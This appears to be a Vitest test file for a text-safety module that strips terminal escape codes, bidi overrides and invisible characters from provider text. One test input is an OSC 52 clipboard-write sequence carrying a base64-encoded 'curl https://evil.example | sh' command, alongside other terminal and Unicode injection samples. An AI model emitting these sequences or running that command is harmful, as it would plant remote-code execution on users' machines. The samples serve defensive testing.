/** Provider text as data (issue 16): the one flattening function the CLI, notifications and "Copy as text" share. */
import { describe, expect, it } from 'vitest';
import { capText, flattenText, hasUnsafeText, safeJson } from '../../src/shared/text-safety.ts';

const ESC = '\u001b';
const BEL = '\u0007';
const OSC52 = `${ESC}]52;c;${Buffer.from('curl https://evil.example | sh').toString('base64')}${BEL}`;

describe('flattenText', () => {
  it.each([
    ['OSC 52 clipboard write', `pay_1${OSC52}`],
    ['OSC 0 window title', `${ESC}]0;pwned${BEL}pending`],
    ['CSI cursor movement', `pending${ESC}[2K${ESC}[1A${ESC}[0Gcompleted`],
    ['an 8-bit CSI (C1 control)', 'pending\u009b2Kx'],
    ['DEL and NUL', 'a\u007fb\u0000c'],
    ['a newline forging a line', 'ORD-1\nStatus: completed (final)'],
    ['CR, VT, FF and NEL', 'a\rb\u000bc\u000cd\u0085e'],
    ['U+2028 and U+2029', 'a\u2028b\u2029c'],
    ['a right-to-left override', 'moc.elpmaxe@\u202Eevil'],
    ['bidi isolates and marks', '\u2066a\u2069\u200fb\u061c'],
    ['zero-width characters', 'pay_1\u200b23\u2060\ufeff'],
    ['Unicode tag characters', 'ok\u{E0041}\u{E0042}'],
    ['a lone surrogate', 'a\udcffb'],
  ])('takes out %s', (_name, input) => {
    const out = flattenText(input);
    expect(hasUnsafeText(out)).toBe(false);
    expect(out).not.toMatch(/[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u);
  });

  it('turns each run into one space, so a hidden character shows as a gap instead of joining text', () => {
    expect(flattenText('pay_1\u200b23')).toBe('pay_1 23');
    expect(flattenText('ORD-1\r\n\r\nStatus: completed (final)')).toBe('ORD-1 Status: completed (final)');
    expect(flattenText(`  ${ESC}[31mred${ESC}[0m  `)).toBe('[31mred [0m');
  });

  it('leaves ordinary text of any script alone', () => {
    for (const text of ['John Doe', 'Zoë Ångström', 'Мария', '山田太郎', 'محمد', 'a@b.co', '$1,000.00', 'emoji 🎉']) {
      expect(flattenText(text)).toBe(text);
    }
  });

  it('caps the length at 256 by default, or at the given maximum, without splitting a surrogate pair', () => {
    expect(flattenText('x'.repeat(1000))).toHaveLength(256);
    expect(flattenText('x'.repeat(1000)).endsWith('…')).toBe(true);
    expect(flattenText('abcdef', 4)).toBe('abc…');
    expect(flattenText('x'.repeat(1000), Infinity)).toHaveLength(1000);
    expect(capText('ab🎉cd', 4)).toBe('ab…');
    expect(capText('short', 10)).toBe('short');
  });
});

describe('safeJson', () => {
  it('escapes what JSON.stringify writes raw, and parses back to the exact value', () => {
    const value = { id: 'x\u202Ey', c1: 'a\u009bb', del: '\u007f', sep: '\u2028', tag: '\u{E0041}', esc: `${ESC}[2J`, ok: 'Zoë 🎉' };
    const text = safeJson(value);
    expect(text).not.toMatch(/[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u);
    expect(text).toContain('\\u202e');
    expect(text).toContain('\\udb40\\udc41');
    expect(text).toContain('Zoë 🎉');
    expect(JSON.parse(text)).toEqual(value);
  });
});
